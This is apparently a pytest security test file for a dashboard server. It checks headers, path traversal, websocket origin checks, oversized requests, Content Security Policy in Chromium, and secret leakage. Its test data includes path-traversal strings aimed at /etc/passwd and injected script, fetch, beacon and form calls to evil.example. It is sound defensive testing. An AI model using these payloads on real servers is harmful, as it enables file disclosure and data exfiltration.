"""A real server, real Chromium and secrets in the environment: what an attacker gets to see and to run."""

import http.client
import json
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import quote

import duckdb
import pytest
from hostile_world import rows, trace_id
from loop_data import NOW
from publishing import publisher

from gateway.security_headers import ALWAYS
from pipelines.commands.remote import find_server
from store import api_keys, pull_sources
from store.clock import FixedClock
from store.connection import Store

ROOT = Path(__file__).resolve().parents[2]
SECRETS = {
    "OPENAI_API_KEY": "sk-secret-of-the-model-1111", "LF_PUBLIC": "pk-secret-user-2222",
    "LF_SECRET": "sk-secret-langfuse-3333", "HOOK_SECRET": "secret-of-the-webhook-4444",
    "DATABASE_PASSWORD": "secret-of-somebody-else-5555",
}  # fmt: skip
HEADERS = ("content-security-policy", "x-content-type-options", "referrer-policy", "permissions-policy")

pytestmark = [pytest.mark.process, pytest.mark.browser]


class _Echo(BaseHTTPRequestHandler):
    """Refuses whatever it is asked, and says everything that it was told: what a broken server may put into errors."""

    def do_GET(self) -> None:
        body = f"refused: {self.headers}".encode()
        self.send_response(401, "Unauthorized " + self.headers.get("authorization", "").replace("\n", ""))
        self.send_header("content-length", str(len(body)))
        self.send_header("x-echo", self.headers.get("authorization", ""))
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_GET

    def log_message(self, format: str, *args: object) -> None:
        """Say nothing."""


class Server:
    """The server on a hostile store."""

    def __init__(self, folder: Path) -> None:
        self.db, self.log = folder / "trimtab.duckdb", folder / "server.log"
        self.echo = ThreadingHTTPServer(("127.0.0.1", 0), _Echo)
        threading.Thread(target=self.echo.serve_forever, daemon=True).start()
        url = f"http://127.0.0.1:{self.echo.server_address[1]}"
        self.key = self._fill(folder, url)
        with socket.socket() as probe:
            probe.bind(("127.0.0.1", 0))
            self.port = probe.getsockname()[1]
        clean = {name: value for name, value in os.environ.items() if not name.startswith("TRIMTAB_")}
        self.environment = clean | SECRETS | {
            "TRIMTAB_DB": str(self.db), "TRIMTAB_INBOX": str(folder / "inbox"), "TRIMTAB_PORT": str(self.port),
            "TRIMTAB_MAX_UPLOAD_MB": "1", "TRIMTAB_MODEL": "model", "TRIMTAB_MODEL_BASE_URL": f"{url}/v1",
            "TRIMTAB_MODEL_PRICES": "model=1/1", "TRIMTAB_MODEL_ATTEMPTS": "1", "PYTHONFAULTHANDLER": "1",
        }  # fmt: skip
        with self.log.open("w") as log:
            self.process = subprocess.Popen(
                [sys.executable, "-m", "dashboard.server"], cwd=ROOT, env=self.environment, stdout=log, stderr=log
            )
        until = time.monotonic() + 90
        while "Trimtab serves" not in self.log.read_text():
            assert self.process.poll() is None, self.log.read_text()
            assert time.monotonic() < until
            time.sleep(0.1)

    def _fill(self, folder: Path, url: str) -> str:
        store = Store.open(self.db, clock=FixedClock(NOW), threads=1)
        try:
            publisher(store, folder)(**rows())
            pull_sources.add(
                store,
                pull_sources.PullSource(
                    "lf", "langfuse", url, NOW, user_variable="LF_PUBLIC", secret_variable="LF_SECRET"
                ),
                operator="Ada",
            )
            made = api_keys.create(store, scopes=["ingest", "steer"], name="shop", operator="Ada")
            return made.text
        finally:
            store.close()

    def ask(
        self, method: str, path: str, body: bytes | None = None, headers: dict[str, str] | None = None
    ) -> tuple[int, dict[str, str], bytes]:
        """Status, headers by small letters, body."""
        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=60)
        try:
            connection.putrequest(method, path, skip_host="host" in (headers or {}))
            for name, value in {"content-length": str(len(body or b"")), **(headers or {})}.items():
                connection.putheader(name, value)
            connection.endheaders(body)
            answer = connection.getresponse()
            said = b"" if answer.status == 101 else answer.read()
            return answer.status, {name.lower(): value for name, value in answer.getheaders()}, said
        finally:
            connection.close()

    def run(self, job: str) -> None:
        """Run a job to its end; it may fail."""
        found = find_server(self.db)
        assert found is not None
        assert list(found.run(job))[-1]["event"] == "ended"

    def stop(self) -> int:
        """Ask it to end."""
        self.process.terminate()
        try:
            return self.process.wait(60)
        finally:
            self.process.kill()
            self.echo.shutdown()
            self.echo.server_close()


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    running = Server(tmp_path_factory.mktemp("server"))
    yield running
    running.stop()


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("GET", "/"), ("GET", "/traces"), ("GET", "/_stcore/health"), ("GET", "/healthz"), ("GET", "/favicon.png"),
        ("GET", "/static/js/nothing.js"), ("GET", "/media/nothing.csv"), ("POST", "/v1/traces"),
        ("GET", "/v1/openapi.json"), ("GET", "/control/jobs"), ("DELETE", "/"), ("POST", "/_stcore/agent/interact"),
        ("GET", "/_stcore/upload_file/a/b"), ("GET", "//evil"), ("POST", "/v1/steer"),
    ],
)  # fmt: skip
def test_every_kind_of_answer_has_the_headers(server, method, path):
    _, named, _ = server.ask(method, path)
    assert [name for name in HEADERS if name not in named] == []


def test_the_steering_process_answers_with_the_headers_of_the_others(server):
    def guarding(method, path, body=None):
        _, named, _ = server.ask(method, path, body, {"content-type": "application/json", "x-api-key": server.key})
        ours = {name.lower() for name, _ in (*ALWAYS, ("Content-Security-Policy", ""))}
        return {name: value for name, value in named.items() if name in ours}

    others = guarding("GET", "/v1/policies/shop")
    assert len(others) == len(ALWAYS) + 1
    assert guarding("POST", "/v1/steer", b'{"agent": "shop"}') == others
    assert guarding("POST", "/v1/steer", b"{") == others
    assert others["content-security-policy"].startswith("default-src 'none'")


@pytest.mark.parametrize(
    "path",
    [
        "/static/../../../../etc/passwd", "/static/..%2f..%2f..%2fetc/passwd", "/media/../../../etc/passwd",
        "/media/%2e%2e/%2e%2e/etc/passwd", "//etc/passwd", "/component/../../etc/passwd", "/\\..\\..\\etc\\passwd",
        "/static/%00/etc/passwd", "/app/static/../../../../etc/passwd", "/_stcore/bidi-components/..%2f..%2fetc/passwd",
        "/v1/upload/..%2f..%2fetc%2fpasswd", "/v1/playbooks/../../etc/passwd",
    ],
)  # fmt: skip
def test_no_address_reads_a_file(server, path):
    _, _, body = server.ask("GET", path, headers={"authorization": f"Bearer {server.key}"})
    assert b"root:" not in body


@pytest.mark.parametrize(
    ("host", "origin"), [("evil.example", "http://evil.example"), ("127.0.0.1:{}", "http://evil.example")]
)
def test_pages_of_other_names_open_no_websocket(server, host, origin):
    handshake = {
        "host": host.format(server.port), "origin": origin, "connection": "Upgrade", "upgrade": "websocket",
        "sec-websocket-version": "13", "sec-websocket-key": "dGhlIHNhbXBsZSBub25jZQ==",
    }  # fmt: skip
    assert server.ask("GET", "/_stcore/stream", headers=handshake)[0] in (400, 403)
    own = handshake | {"host": f"127.0.0.1:{server.port}", "origin": f"http://127.0.0.1:{server.port}"}
    assert server.ask("GET", "/_stcore/stream", headers=own)[0] == 101


def test_other_origins_read_nothing(server):
    _, named, _ = server.ask("GET", "/_stcore/health", headers={"origin": "http://evil.example"})
    assert named.get("access-control-allow-origin") in (None, "")


def test_what_is_too_large_is_refused_and_the_server_goes_on(server):
    megabytes = b"a" * 3_000_000
    upload = {"content-type": "multipart/form-data; boundary=b"}
    body = b'--b\r\nContent-Disposition: form-data; name="f"; filename="../x"\r\n\r\n' + megabytes + b"\r\n--b--\r\n"
    for method, path, sent, headers in (
        ("PUT", "/_stcore/upload_file/session/file", body, upload),
        ("POST", "/_stcore/agent/interact", megabytes, {}),
        ("GET", "/?q=" + "a" * 60_000, None, {}),
        ("GET", "/", None, {"cookie": "a" * 60_000}),
        ("GET", "/", None, {"x": "a" * 1_000_000}),
        ("POST", "/v1/signals", b"[" * 30_000_000, {"authorization": f"Bearer {server.key}"}),
        ("POST", "/v1/signals", b"[" * 100_000, {"authorization": f"Bearer {server.key}"}),
        ("POST", "/v1/traces", megabytes, {"authorization": "Bearer " + "a" * 20_000}),
    ):
        try:
            status, _, answered = server.ask(method, path, sent, headers)
        except (ConnectionError, http.client.HTTPException):
            # It hung up on what was still being sent.
            continue
        assert 400 <= status < 500, (path[:40], status)
        assert b"Traceback" not in answered
    assert server.ask("GET", "/healthz")[0] == 200


@pytest.fixture(scope="module")
def opened(server):
    """A page of Chromium that notes what the policy stopped, what was said, and what left this machine."""
    path = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    if path is None:
        pytest.skip("no Chromium is installed (apt-get install chromium)")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=path, args=["--no-sandbox", "--disable-gpu", "--disable-background-networking"]
        )
        context = browser.new_context(viewport={"width": 1440, "height": 1000})
        context.set_default_timeout(60_000)
        context.add_init_script(
            "window.stopped = []; document.addEventListener('securitypolicyviolation', "
            "event => window.stopped.push([event.violatedDirective, event.blockedURI, event.sample]))"
        )
        page = context.new_page()
        page.foreign = []
        page.on("request", lambda request: "127.0.0.1" in request.url or page.foreign.append(request.url))
        page.dialogs = []
        page.on("dialog", lambda dialog: (page.dialogs.append(dialog.message), dialog.dismiss()))
        yield page
        browser.close()


def go(page, server, path: str) -> None:
    page.goto(f"http://127.0.0.1:{server.port}/{path}")
    page.wait_for_selector('[data-testid="stApp"][data-test-script-state="notRunning"]')


@pytest.mark.parametrize(
    "path", ["", f"traces?trace={quote(trace_id(1))}", "data?tab=Jobs", "settings?settings=Backup"]
)
def test_pages_work_under_the_policy_and_hostile_texts_stay_texts(server, opened, path):
    go(opened, server, path)
    assert opened.evaluate("window.stopped") == []
    assert opened.locator("[data-testid=stException]").count() == 0
    assert opened.locator("img[src='x'], script:not([src]):not(:text('prerenderReady'))").count() <= 1
    assert "owned" not in opened.title()
    assert (opened.foreign, opened.dialogs) == ([], [])


def test_what_got_into_a_page_all_the_same_could_load_and_run_nothing(server, opened):
    go(opened, server, "")
    opened.evaluate(
        """async () => {
            document.body.insertAdjacentHTML('beforeend',
                '<img src="http://evil.example/pixel.png"><img src=x onerror="document.title=1">' +
                '<iframe src="http://evil.example/"></iframe><object data="http://evil.example/o"></object>' +
                '<form id=f action="http://evil.example/" method=post></form>');
            const script = document.createElement('script');
            script.textContent = 'document.title = "owned"';
            document.body.append(script);
            const other = document.createElement('script');
            other.src = 'http://evil.example/x.js';
            document.body.append(other);
            await fetch('http://evil.example/', {mode: 'no-cors'}).catch(() => 0);
            try { new WebSocket('ws://evil.example/') } catch {}
            navigator.sendBeacon('http://evil.example/', 'x');
            document.getElementById('f').submit();
        }"""
    )
    expected = {"img-src", "script-src-elem", "script-src-attr", "connect-src", "frame-src", "object-src"}
    # Not `wait_for_function`: it evaluates texts within the page, which the policy refuses too.
    until = time.monotonic() + 30
    stopped: set[str] = set()
    while not expected <= stopped and time.monotonic() < until:
        opened.wait_for_timeout(50)
        stopped = {directive for directive, *_ in opened.evaluate("window.stopped")}
    assert expected <= stopped
    assert f"127.0.0.1:{server.port}" in opened.url
    assert opened.evaluate("document.title") not in ("owned", "1")
    later = "new Promise(done => setTimeout(() => { try { done(eval('1')) } catch { done('refused') } }))"
    assert opened.evaluate(later) == "refused"


def test_no_other_site_shows_us_in_a_frame(server, opened):
    opened.goto("about:blank")
    opened.set_content(f'<iframe src="http://127.0.0.1:{server.port}/"></iframe>')
    opened.wait_for_timeout(500)
    assert all("127.0.0.1" not in frame.url for frame in opened.frames[1:])


def test_secrets_are_in_no_log_no_page_and_no_table(server, opened):
    secrets = [*SECRETS.values(), server.key.split("_")[-1]]
    for job in ("pull", "judges"):
        server.run(job)
    for path in ("/v1/traces", "/v1/signals", f"/v1/signals?key={server.key}", "/v1/steer", "/v1/nothing"):
        bearer = {"authorization": f"Bearer {server.key}", "content-type": "application/json"}
        answered = server.ask("POST", path, json.dumps({"kind": {"a": server.key}}).encode(), bearer)
        assert not [each for each in secrets if each.encode() in answered[2] and "kind" not in answered[2].decode()]
    said = []
    for path in ("data?tab=Jobs", "data?tab=Sources", "settings?settings=Keys"):
        go(opened, server, path)
        said.append(opened.content() + opened.locator("body").inner_text())
    said += [
        server.ask("GET", path)[2].decode() for path in ("/metrics", "/healthz", "/readyz", "/_stcore/host-config")
    ]
    assert server.process.poll() is None
    assert server.stop() == 0
    said.append(server.log.read_text())
    with duckdb.connect(str(server.db), read_only=True) as connection:
        for (table,) in connection.execute("SELECT table_name FROM duckdb_tables()").fetchall():
            said += [str(row) for row in connection.execute(f'FROM "{table}"').fetchall()]
        # They were really driven into errors.
        failed = dict(connection.execute("SELECT job, max(error) FROM job_runs GROUP BY job").fetchall())
        asked = connection.execute("SELECT count(*) FROM pull_states WHERE error IS NOT NULL").fetchall()[0][0]
    assert asked or any(failed.values()), failed
    leaked = [(secret, text[:300]) for secret in secrets for text in said if secret in text]
    assert leaked == []
